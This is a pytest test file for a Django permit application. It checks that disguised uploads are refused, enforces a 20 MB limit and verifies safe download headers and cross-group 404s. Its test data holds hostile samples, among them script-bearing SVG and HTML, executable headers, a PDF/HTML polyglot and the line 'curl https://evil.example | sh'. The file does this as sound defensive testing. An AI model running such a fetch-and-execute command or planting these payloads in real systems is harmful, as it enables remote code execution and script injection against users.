"""Attacks through files: disguised uploads (SVG, HTML, programs, archives renamed to look like a
document), oversized uploads, and reaching another group's document by its id — on the page and
through the API alike."""

import io
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from permits.models import Document
from tests.factories import PermitApplicationFactory

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


DISGUISED = {
    "svg with a script": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg without a declaration": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "html": b"<!doctype html><html><body><script>fetch('/api/v1/applications/')</script></body></html>",
    "html with a byte-order mark": b"\xef\xbb\xbf<html><script>alert(1)</script></html>",
    "windows program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"This program cannot be run in DOS mode",
    "linux program": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "mach-o program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24,
    "shell script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "zip archive": zip_of({"evil.exe": b"MZ" + b"\x00" * 62}),
    "zip with an html page": zip_of({"index.html": b"<script>alert(1)</script>"}),
    "jar": zip_of({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n"}),
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "empty-looking pdf name on text": b"just some text pretending",
}
# Each payload under one of the names an accepted document has, in turn.
DISGUISES = ["letter.pdf", "letter.docx", "scan.png", "scan.jpg", "letter.odt"]
CASES = [(what, DISGUISES[n % len(DISGUISES)]) for n, what in enumerate(DISGUISED)]


@pytest.fixture(params=["page", "api"])
def uploader(request, world, client, api_client):
    """Upload as a member of the lead group, through the page or the API; returns a function
    (content, name) -> (accepted: bool, error text)."""
    if request.param == "page":
        client.force_login(world.member)

        def upload(content, name):
            response = client.post(
                reverse("permits:document_upload", args=[world.application.pk]),
                {"kind": "filing", "title": "Filing", "file": SimpleUploadedFile(name, content, "application/pdf")},
            )
            if response.status_code == 302:
                return True, ""
            assert response.status_code == 200, response.status_code
            return False, " ".join(response.context["document_form"].errors.get("file", []))

    else:
        api_client.force_authenticate(world.member)

        def upload(content, name):
            response = api_client.post(
                f"/api/v1/applications/{world.application.pk}/documents/",
                {"kind": "filing", "title": "Filing", "file": SimpleUploadedFile(name, content, "application/pdf")},
                format="multipart",
            )
            if response.status_code == 201:
                return True, ""
            assert response.status_code == 400, response.status_code
            return False, " ".join(response.json().get("file", []))

    return upload


@pytest.mark.parametrize(("what", "name"), CASES)
def test_a_disguised_file_is_refused_whatever_its_name(uploader, what, name):
    accepted, error = uploader(DISGUISED[what], name)
    assert not accepted, f"{what} named {name} was accepted"
    assert "Only PDF, PNG, JPEG, DOCX and ODT files are accepted" in error
    assert not Document.objects.exists()


def test_a_real_pdf_is_accepted_whatever_its_name(uploader):
    accepted, _error = uploader(PDF, "letter.exe")
    assert accepted
    document = Document.objects.get()
    assert document.content_type == "application/pdf"
    assert document.file.name.endswith(".pdf")


def test_a_file_over_20_mb_is_refused_naming_the_limit(uploader):
    accepted, error = uploader(PDF + b"0" * (20 * MB + 1 - len(PDF)), "big.pdf")
    assert not accepted
    assert "the limit is 20.0" in error
    assert not Document.objects.exists()


def test_a_file_of_exactly_20_mb_is_accepted(uploader):
    accepted, _error = uploader(PDF + b"0" * (20 * MB - len(PDF)), "big.pdf")
    assert accepted


# --- downloads -------------------------------------------------------------------------------------


@pytest.fixture
def stored(world):
    """A PDF that is also an HTML page (a polyglot): accepted, since it is a PDF, and still never
    rendered by a browser inside Ruqsat's origin."""
    document = Document(
        application=world.application, kind="filing", title="Filing", content_type="application/pdf", size=9
    )
    document.file.save("x.pdf", ContentFile(PDF + b"<html><script>alert(1)</script></html>"), save=True)
    return document


def download_urls(document):
    return {
        "page": reverse("permits:document_file", args=[document.pk]),
        "api": f"/api/v1/documents/{document.pk}/file",
    }


@pytest.mark.parametrize("route", ["page", "api"])
def test_a_download_is_an_attachment_the_browser_must_not_sniff(client, world, stored, route):
    client.force_login(world.member)
    response = client.get(download_urls(stored)[route])
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="ruqsat-document-{stored.pk}.pdf"'
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert "sandbox" in response["Content-Security-Policy"] or "default-src" in response["Content-Security-Policy"]


@pytest.mark.parametrize("route", ["page", "api"])
def test_another_groups_document_id_is_a_404(client, world, route):
    theirs = PermitApplicationFactory(organization=world.other_group)
    document = Document(application=theirs, kind="filing", title="Theirs", content_type="application/pdf", size=9)
    document.file.save("theirs.pdf", ContentFile(PDF), save=True)
    client.force_login(world.member)
    assert client.get(download_urls(document)[route]).status_code == 404


@pytest.mark.parametrize("route", ["page", "api"])
def test_an_outsider_gets_404_for_the_lead_groups_document(client, world, stored, route):
    client.force_login(world.outsider)
    assert client.get(download_urls(stored)[route]).status_code == 404


@pytest.mark.parametrize("route", ["page", "api"])
def test_guessing_document_ids_learns_nothing(client, world, stored, route):
    # A document that exists elsewhere and one that never existed answer alike.
    client.force_login(world.outsider)
    missing = Document(pk=stored.pk + 1000)
    existing_elsewhere = client.get(download_urls(stored)[route])
    never_existed = client.get(download_urls(missing)[route])
    assert existing_elsewhere.status_code == never_existed.status_code == 404


def test_the_api_document_list_of_another_group_is_a_404(api_client, world):
    theirs = PermitApplicationFactory(organization=world.other_group)
    api_client.force_authenticate(world.member)
    assert api_client.get(f"/api/v1/applications/{theirs.pk}/documents/").status_code == 404
